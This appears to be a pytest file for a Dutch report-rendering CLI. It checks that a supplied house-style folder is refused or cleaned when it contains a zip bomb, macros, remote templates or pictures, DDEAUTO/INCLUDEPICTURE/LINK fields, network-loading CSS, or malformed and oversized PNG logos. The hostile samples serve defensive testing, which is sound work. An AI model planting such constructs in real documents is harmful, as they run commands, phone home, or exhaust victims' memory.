"""A house style as it may arrive from a colleague or a supplier: a huisstijl.docx that is a
zip bomb or phones home, a huisstijl.css that loads from a server, a logo.png that is not a
picture. impl refuses (or strips and says so) before it writes anything."""

from __future__ import annotations

import io
import re
import resource
import zipfile
from pathlib import Path

import docx
import pytest
from docx.shared import Mm

from conftest import VOORBEELDEN, run_cli
from hostile import impl

PLAN = VOORBEELDEN / "welzijn-eenzaamheid-ouderen.yaml"
GIGABYTE = 1024 * 1024 * 1024
PROGRESS = VOORBEELDEN / "vroegsignalering-schulden-onderweg.yaml"


def plain_docx() -> bytes:
    buffer = io.BytesIO()
    base = docx.Document()
    base.sections[0].header.paragraphs[0].text = "Welzijn Bremmerveen"
    base.save(buffer)
    return buffer.getvalue()


def rebuilt(original: bytes, changes: dict[str, bytes], extra: int = 0) -> bytes:
    """The Word document `original` with parts replaced or added (`changes`) and `extra`
    small parts nobody refers to."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(original)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for item in source.infolist():
            if item.filename not in changes:
                target.writestr(item, source.read(item.filename))
        for name, data in changes.items():
            target.writestr(name, data)
        for index in range(extra):
            target.writestr(f"extra/part{index}.xml", b"<a/>")
    return out.getvalue()


def house_style(tmp_path: Path, files: dict[str, bytes]) -> Path:
    folder = tmp_path / "huisstijl"
    folder.mkdir()
    for name, data in files.items():
        (folder / name).write_bytes(data)
    return folder


def refused(tmp_path: Path, folder: Path, suffix: str = ".docx", *words: str) -> str:
    target = tmp_path / f"uit{suffix}"
    result = run_cli("render", PLAN, "-o", target, "--sjabloon", folder)
    assert result.exit_code == 2, result.output
    assert "Traceback" not in result.output and "impl zelf" not in result.output
    assert not target.exists()
    for word in words:
        assert word in result.stderr, result.stderr
    return result.stderr


# --- 3: a zip bomb -----------------------------------------------------------------------


@pytest.mark.slow
def test_a_huisstijl_docx_that_inflates_to_gigabytes_is_refused_before_it_is_opened(
    tmp_path: Path,
) -> None:
    bomb = io.BytesIO()
    # The fastest compression (a third of the time of the best): 4.5 MB for the gigabyte.
    with (
        zipfile.ZipFile(io.BytesIO(plain_docx())) as source,
        zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as target,
    ):
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "word/styles.xml":  # a part python-docx does read
                with target.open(item.filename, "w", force_zip64=True) as part:
                    part.write(data[: data.rindex(b"</w:styles>")])
                    for _ in range(1024):
                        part.write(b" " * (1024 * 1024))
                    part.write(b"</w:styles>")
            else:
                target.writestr(item, data)
    assert len(bomb.getvalue()) < 5 * 1024 * 1024  # small: a huisstijl.docx may be 20 MB
    folder = house_style(tmp_path, {"huisstijl.docx": bomb.getvalue()})
    # A separate process with a memory limit: opening the part would take gigabytes.
    done = impl(
        "render", PLAN, "-o", tmp_path / "uit.docx", "--sjabloon", folder, timeout=60,
        preexec_fn=lambda: resource.setrlimit(resource.RLIMIT_AS, (GIGABYTE, GIGABYTE)),
    )  # fmt: skip
    stderr = done.stderr.decode()
    assert done.returncode == 2, stderr
    assert "huisstijl.docx" in stderr and "uitgepakt" in stderr and "MB" in stderr
    assert not (tmp_path / "uit.docx").exists()


def test_a_huisstijl_docx_with_thousands_of_parts_is_refused(tmp_path: Path) -> None:
    folder = house_style(tmp_path, {"huisstijl.docx": rebuilt(plain_docx(), {}, extra=5000)})
    refused(tmp_path, folder, ".docx", "onderdelen")


# --- 4: a Word document that phones home ----------------------------------------------------

RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def with_settings_rel(original: bytes, rel_type: str, target: str, settings_element: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(original)) as source:
        settings = source.read("word/settings.xml")
    rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="{RELS}/{rel_type}" Target="{target}" '
        'TargetMode="External"/></Relationships>'
    ).encode()
    settings = settings.replace(b"</w:settings>", settings_element.encode() + b"</w:settings>")
    return rebuilt(original, {"word/settings.xml": settings, "word/_rels/settings.xml.rels": rels})


def header_with(original: bytes, inner: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(original)) as source:
        header_name = next(n for n in source.namelist() if re.fullmatch(r"word/header\d*.xml", n))
        header = source.read(header_name)
    header = header.replace(b"</w:p>", inner.encode() + b"</w:p>", 1)
    return rebuilt(original, {header_name: header})


def test_a_remote_attached_template_is_left_out_and_the_user_is_told(tmp_path: Path) -> None:
    hostile = with_settings_rel(
        plain_docx(),
        "attachedTemplate",
        "http://example.invalid/sjabloon.dotm",
        '<w:attachedTemplate xmlns:r="' + RELS + '" r:id="rId1"/>',
    )
    folder = house_style(tmp_path, {"huisstijl.docx": hostile})
    target = tmp_path / "uit.docx"
    result = run_cli("render", PLAN, "-o", target, "--sjabloon", folder)
    assert result.exit_code == 0, result.output
    assert "example.invalid" in result.stderr and "weggelaten" in result.stderr
    with zipfile.ZipFile(target) as made:
        everything = b"".join(made.read(name) for name in made.namelist())
    assert b"example.invalid" not in everything and b"attachedTemplate" not in everything
    assert docx.Document(str(target)).sections[0].header.paragraphs[0].text == (
        "Welzijn Bremmerveen"
    )


@pytest.mark.parametrize(
    "inner",
    [
        # Word fetches the picture when the document opens.
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPICTURE '
        '"http://example.invalid/x.png" \\d </w:instrText></w:r><w:r><w:fldChar '
        'w:fldCharType="end"/></w:r>',
        # The same, cut into pieces.
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDE</w:instrText>'
        '</w:r><w:r><w:instrText>PICTURE "http://example.invalid/x.png"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r>',
        # Starts a program.
        "<w:fldSimple w:instr='DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"'/>",
        '<w:fldSimple w:instr="LINK Excel.Sheet.8 \\\\\\\\server\\\\x.xls Blad1"/>',
    ],
)
def test_a_field_that_fetches_or_runs_is_refused(tmp_path: Path, inner: str) -> None:
    folder = house_style(tmp_path, {"huisstijl.docx": header_with(plain_docx(), inner)})
    refused(tmp_path, folder, ".docx", "huisstijl.docx", "veld", "Alt+F9")


def test_an_external_picture_is_refused(tmp_path: Path) -> None:
    original = plain_docx()
    with zipfile.ZipFile(io.BytesIO(original)) as source:
        rels = source.read("word/_rels/document.xml.rels")
    rels = rels.replace(
        b"</Relationships>",
        f'<Relationship Id="rId99" Type="{RELS}/image" Target="http://example.invalid/p.png" '
        'TargetMode="External"/></Relationships>'.encode(),
    )
    folder = house_style(
        tmp_path, {"huisstijl.docx": rebuilt(original, {"word/_rels/document.xml.rels": rels})}
    )
    refused(tmp_path, folder, ".docx", "example.invalid", "internet")


def test_macros_are_refused(tmp_path: Path) -> None:
    original = plain_docx()
    with zipfile.ZipFile(io.BytesIO(original)) as source:
        rels = source.read("word/_rels/document.xml.rels")
    rels = rels.replace(
        b"</Relationships>",
        b'<Relationship Id="rId98" Type="http://schemas.microsoft.com/office/2006/relationships/'
        b'vbaProject" Target="vbaProject.bin"/></Relationships>',
    )
    hostile = rebuilt(
        original,
        {"word/_rels/document.xml.rels": rels, "word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"},
    )
    folder = house_style(tmp_path, {"huisstijl.docx": hostile})
    refused(tmp_path, folder, ".docx", "macro")


def test_a_web_link_in_the_footer_is_fine(tmp_path: Path) -> None:
    original = plain_docx()
    with zipfile.ZipFile(io.BytesIO(original)) as source:
        rels = source.read("word/_rels/document.xml.rels")
    rels = rels.replace(
        b"</Relationships>",
        f'<Relationship Id="rId97" Type="{RELS}/hyperlink" Target="https://example.org/" '
        'TargetMode="External"/></Relationships>'.encode(),
    )
    page = header_with(original, '<w:fldSimple w:instr=" PAGE \\* MERGEFORMAT "/>')
    folder = house_style(
        tmp_path, {"huisstijl.docx": rebuilt(page, {"word/_rels/document.xml.rels": rels})}
    )
    result = run_cli("render", PLAN, "-o", tmp_path / "uit.docx", "--sjabloon", folder)
    assert result.exit_code == 0, result.output


@pytest.mark.parametrize(
    "css",
    [
        "@import url(https://example.invalid/x.css);",
        "@IMPORT 'https://example.invalid/x.css';",
        "body { background: url(https://example.invalid/p.png) }",
        "body { background: url( '//example.invalid/p.png' ) }",
        "@font-face { font-family: x; src: url(https://example.invalid/f.woff) }",
    ],
)
def test_a_stylesheet_that_loads_from_a_server_is_refused(tmp_path: Path, css: str) -> None:
    folder = house_style(tmp_path, {"huisstijl.css": css.encode()})
    refused(tmp_path, folder, ".html", "huisstijl.css:1", "data:")


@pytest.mark.parametrize("command", ["render", "voortgang"])
def test_html_forbids_every_network_load_even_one_a_stylesheet_hides(
    tmp_path: Path, command: str
) -> None:
    css = "body { background: \\75 rl(https://example.invalid/p.png) } h1 { color: #123 }"
    folder = house_style(tmp_path, {"huisstijl.css": css.encode()})
    plan = PLAN if command == "render" else PROGRESS
    target = tmp_path / "uit.html"
    result = run_cli(command, plan, "-o", target, "--sjabloon", folder)
    assert result.exit_code == 0, result.output
    page = target.read_text("utf-8")
    head = page[: page.index("<style")]
    policy = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', head)
    assert policy is not None
    assert "default-src 'none'" in policy.group(1)
    assert "http" not in policy.group(1)


# --- 6: a logo that is not a picture -------------------------------------------------------


def png_with(body: bytes) -> bytes:
    return b"\x89PNG\r\n\x1a\n" + body


@pytest.mark.parametrize(
    "data",
    [
        png_with(b""),
        png_with(b"\x00\x00\x00\x0dIHDR\x00\x00\x00\x00\x00\x00\x00\x00\x08\x02\x00\x00\x00"),
        png_with(b"\x00\x00\x00\x0dIHDR" + b"\xff" * 17),
        png_with(b"\x00\x00\x00\x0dpHYs" + b"\x00" * 13 + b"\x01" * 20),
    ],
)
@pytest.mark.parametrize("suffix", [".docx", ".html"])
def test_a_logo_png_that_is_not_a_picture_is_refused(
    tmp_path: Path, data: bytes, suffix: str
) -> None:
    folder = house_style(tmp_path, {"logo.png": data})
    refused(tmp_path, folder, suffix, "logo.png", "geen PNG-afbeelding")


def test_a_logo_png_of_a_billion_pixels_is_refused(tmp_path: Path) -> None:
    import struct
    import zlib

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    header = struct.pack(">IIBBBBB", 40000, 40000, 8, 2, 0, 0, 0)
    data = png_with(chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 1000)))
    data += chunk(b"IEND", b"")
    folder = house_style(tmp_path, {"logo.png": data})
    refused(tmp_path, folder, ".docx", "logo.png")


def test_html_inserted_in_a_header_is_refused(tmp_path: Path) -> None:
    original = plain_docx()
    with zipfile.ZipFile(io.BytesIO(original)) as source:
        rels = source.read("word/_rels/document.xml.rels")
    rels = rels.replace(
        b"</Relationships>",
        f'<Relationship Id="rId96" Type="{RELS}/aFChunk" Target="chunk.html"/>'
        "</Relationships>".encode(),
    )
    chunk = b'<html><body><img src="http://example.invalid/p.png"></body></html>'
    hostile = rebuilt(original, {"word/_rels/document.xml.rels": rels, "word/chunk.html": chunk})
    folder = house_style(tmp_path, {"huisstijl.docx": hostile})
    refused(tmp_path, folder, ".docx", "ingevoegde HTML")


def test_a_house_style_page_without_size_or_margins_gets_a4s(tmp_path: Path) -> None:
    """Word writes page size and margins, but a huisstijl.docx made by another program may
    leave them out; the document then gets A4's, with the wide timeline turned as usual."""
    original = plain_docx()
    with zipfile.ZipFile(io.BytesIO(original)) as source:
        body = source.read("word/document.xml").decode()
    body = re.sub(r"<w:pgSz[^>]*/>|<w:pgMar[^>]*/>", "", body)
    folder = house_style(
        tmp_path, {"huisstijl.docx": rebuilt(original, {"word/document.xml": body.encode()})}
    )
    target = tmp_path / "uit.docx"
    result = run_cli("render", PLAN, "-o", target, "--sjabloon", folder)
    assert result.exit_code == 0, result.output
    def mm(length: int | None) -> int:  # Word stores twentieths of a point
        assert length is not None
        return round(length / Mm(1))

    sections = docx.Document(str(target)).sections
    assert len(sections) > 1  # the timeline's landscape section
    pages = [(mm(s.page_width), mm(s.page_height)) for s in sections]
    assert pages[0] == (210, 297)
    assert set(pages) == {(210, 297), (297, 210)}
    assert {mm(s.left_margin) for s in sections} == {mm(s.right_margin) for s in sections} == {20}
